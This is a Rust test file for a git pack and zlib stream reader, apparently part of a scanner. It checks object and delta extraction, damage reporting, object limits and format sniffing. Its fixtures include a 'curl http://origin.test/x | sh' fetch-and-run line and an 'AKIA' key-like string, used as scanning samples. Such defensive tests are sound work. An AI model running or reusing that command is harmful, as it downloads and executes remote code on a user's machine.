//! Packs that git made say their objects however they are cut, and what their deltas add; damaged ones cost what
//! follows the damage. And what is told to be a zlib stream without a name.

use std::io::Write;

use proptest::prelude::*;

use super::tests::{Said, read, read_as};
use super::*;
use crate::limits::{PACK_OBJECTS_MAX, ZLIB_PROOF_BYTES};

/// Behind the two bytes that the fuzz target takes.
macro_rules! made {
    ($name:literal) => {
        &include_bytes!(concat!("../../../../fuzz/corpus/archive/", $name))[2..]
    };
}

fn zlib(bytes: &[u8], level: u32) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::new(level));
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn pack(count: u32, objects: &[u8]) -> Vec<u8> {
    [b"PACK\0\0\0\x02", &count.to_be_bytes()[..], objects, &[0xaa; 20]].concat()
}

/// An object whose size does not matter to its reader.
fn object(kind: u8, base: &[u8], contents: &[u8]) -> Vec<u8> {
    [&[kind << 4 | 0x85, 0x83, 0x01], base, &zlib(contents, 6)].concat()
}

fn texts(said: &Said) -> Vec<String> {
    said.contents().iter().map(|text| String::from_utf8_lossy(text).into_owned()).collect()
}

#[test]
fn packs_say_their_objects_and_what_their_deltas_add() {
    let said = read(made!("pack-one"));
    assert_eq!((said.reasons(), said.ended()), (&[][..], 4));
    let all = texts(&said).concat();
    assert!(all.contains("tree ") && all.contains("100644 b.txt"), "{all}");
    assert!(all.contains("line 39 ") && all.contains("curl http://origin.test/x | sh"), "{all}");
    assert_eq!(read(made!("pack-full")).ended(), 8);
    let said = read(made!("pack-thin"));
    assert_eq!((said.reasons(), said.ended()), (&[][..], 3));
    let added: Vec<String> =
        texts(&said).into_iter().filter(|text| text.contains("AKIA")).collect();
    assert_eq!(added.len(), 1);
    assert!(added[0].len() < 100, "what is copied is not said: {added:?}");
}

#[test]
fn objects_of_all_kinds_are_read_and_bases_passed_over() {
    let delta = b"\x05\x05\x03one\x91\x01\x02\x03two";
    let objects = [
        object(3, b"", b"blob"),
        object(6, b"\x81\x82\x03", delta),
        object(7, &[0x80; 20], delta),
        vec![0x30, 0x78, 0x9c, 0x03, 0, 0, 0, 0, 1],
        object(4, b"", b"tag"),
    ];
    let said = read(&pack(5, &objects.concat()));
    assert_eq!((said.reasons(), said.ended()), (&[][..], 5));
    assert_eq!(texts(&said).concat(), "blobone\ntwoone\ntwotag");
}

#[test]
fn damaged_packs_are_told_once_and_their_rest_is_counted() {
    let blob = object(3, b"", b"blob");
    let rest = |pack: Vec<u8>| {
        let said = read(&pack);
        (said.reasons().to_vec(), said.ended(), said.unreadable())
    };
    // No such kind of object; sizes and offsets without an end.
    let none = [&blob[..], b"\x50what"].concat();
    assert_eq!(rest(pack(2, &none)), (vec![Unreadable::Malformed], 1, 4 + 20));
    let size = [&[0xb0][..], &[0x80; 30]].concat();
    assert_eq!(rest(pack(1, &size)).0, [Unreadable::Malformed]);
    let offset = [&[0x60][..], &[0x80; 30]].concat();
    assert_eq!(rest(pack(1, &offset)).0, [Unreadable::Malformed]);
    // Contents that are no zlib stream.
    let coded = [&blob[..], b"\x35no stream"].concat();
    let said = read_as(Container::Pack, &[&pack(2, &coded)], 4096);
    assert_eq!(
        (said.reasons().to_vec(), said.ended()),
        (vec![Unreadable::Coded(Undecodable::Malformed)], 1)
    );
    // Fewer objects than it says, cut contents, and more than a checksum behind the last.
    let missing = pack(2, &blob);
    assert_eq!(rest(missing[..missing.len() - 20].to_vec()), (vec![Unreadable::Truncated], 1, 0));
    let cut = pack(1, &blob[..blob.len() - 5]);
    assert_eq!(rest(cut[..cut.len() - 20].to_vec()), (vec![Unreadable::Truncated], 1, 0));
    let more = [pack(1, &blob), vec![b'x'; 40]].concat();
    assert_eq!(rest(more), (vec![Unreadable::Malformed], 1, 28));
    assert_eq!(rest(pack(1, &blob)[..11].to_vec()), (vec![Unreadable::Truncated], 0, 0));
    // A delta that is none is told, and read as it stands.
    let delta = [object(7, b"01234567890123456789", b"\x01\x01\0AKIA"), blob].concat();
    let said = read(&pack(2, &delta));
    assert_eq!(
        (said.reasons(), texts(&said).concat()),
        (&[Unreadable::Malformed][..], "AKIAblob".into())
    );
}

#[test]
fn as_many_objects_as_the_limit_are_read_and_one_more_is_not() {
    let empty = [0x30, 0x78, 0x9c, 0x03, 0, 0, 0, 0, 1];
    for past in [0, 1] {
        let count = PACK_OBJECTS_MAX + past;
        let pack = pack(count, &empty.repeat(count as usize));
        let said = read_as(Container::Pack, &[&pack], 16);
        assert_eq!(said.ended(), PACK_OBJECTS_MAX as usize);
        let expected = if past == 0 { vec![] } else { vec![Unreadable::TooManyEntries] };
        assert_eq!(said.reasons(), expected);
    }
}

#[test]
fn packs_stop_at_the_cap_of_their_body() {
    let pack = pack(1, &object(3, b"", &vec![0; 64 << 20]));
    let said = read_as(Container::Pack, &[&pack], 32 * 1024);
    assert_eq!(said.reasons(), [Unreadable::Coded(Undecodable::TooLarge)]);
}

#[test]
fn packs_are_told_from_text() {
    assert_eq!(sniff(b"PACK\0\0\0\x02"), Some(Container::Pack));
    assert_eq!(sniff(b"PACK\0\0\0\x03\0"), Some(Container::Pack));
    for (head, more) in
        [(&b"P"[..], true), (b"PACK\0\0\0", true), (b"PACK\0\0\0\x04", false), (b"PACKAGE", false)]
    {
        assert_eq!((sniff(head), may_begin(head)), (None, more), "{head:?}");
    }
    assert!(!may_begin(b""));
}

#[test]
fn a_zlib_stream_is_told_by_what_is_inside() {
    let deflate = Some(Container::Compressed(Coding::Deflate));
    let text: Vec<u8> =
        (0..9000_u32).flat_map(|n| n.wrapping_mul(2_654_435_761).to_be_bytes()).collect();
    for level in [0, 1, 3, 6, 9] {
        for len in [1, 30, ZLIB_PROOF_BYTES - 1, ZLIB_PROOF_BYTES, 3000, text.len()] {
            let stream = zlib(&text[..len], level);
            assert_eq!(sniff(&stream), deflate, "{len} at {level}");
            // Once it is proven, it stays so; before, more is asked for.
            let mut is_proven = false;
            for cut in 1..stream.len().min(ARCHIVE_SNIFF_BYTES) {
                let is_now = !may_begin(&stream[..cut]);
                assert!(!is_now || sniff(&stream[..cut]) == deflate);
                assert!(is_now || !is_proven);
                is_proven = is_now;
            }
        }
    }
    for no in [
        &b"x"[..],
        b"x^2 + y^2 = z^2",
        b"x\x9c",
        b"x\x01 is it",
        b"x\xda\xff\xff",
        b"x\x9c\x03\0\0\0\0\x01",
    ] {
        assert_eq!(sniff(no), None, "{no:?}");
    }
    let damaged = [&zlib(b"text", 6)[..8], &[0; 8]].concat();
    assert_eq!((sniff(&damaged), may_begin(&damaged)), (None, false));
    let said = read(made!("zlib"));
    assert_eq!(texts(&said).concat(), "curl http://origin.test/x | sh\n".repeat(30));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn damaged_packs_say_the_same_however_they_are_cut(
        which in 0..3_usize,
        damages in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..4),
        size in 1..700_usize,
        work_bytes in 1..600_usize,
    ) {
        let packs: [&[u8]; 3] = [made!("pack-one"), made!("pack-full"), made!("pack-thin")];
        let mut pack = packs[which].to_vec();
        for (at, byte) in damages {
            let at = at.index(pack.len());
            pack[at] = byte;
        }
        let whole = read_as(Container::Pack, &[&pack], 4096);
        let pieces: Vec<&[u8]> = pack.chunks(size).collect();
        let cut = read_as(Container::Pack, &pieces, work_bytes);
        prop_assert_eq!(cut.reasons(), whole.reasons());
        // How much of a malformed object was read depends on where it was cut.
        if whole.reasons().is_empty() {
            prop_assert_eq!(cut, whole);
        }
    }

    #[test]
    fn what_is_no_zlib_stream_is_not_taken_for_one(bytes in prop::collection::vec(any::<u8>(), 40..600)) {
        let seems = [&b"x\x9c"[..], &bytes].concat();
        // One of some thousands goes on by chance.
        prop_assume!(sniff(&seems).is_none());
        for cut in (2..seems.len()).step_by(37) {
            let head = &seems[..cut];
            prop_assert!(may_begin(head) || sniff(head).is_none());
        }
    }
}
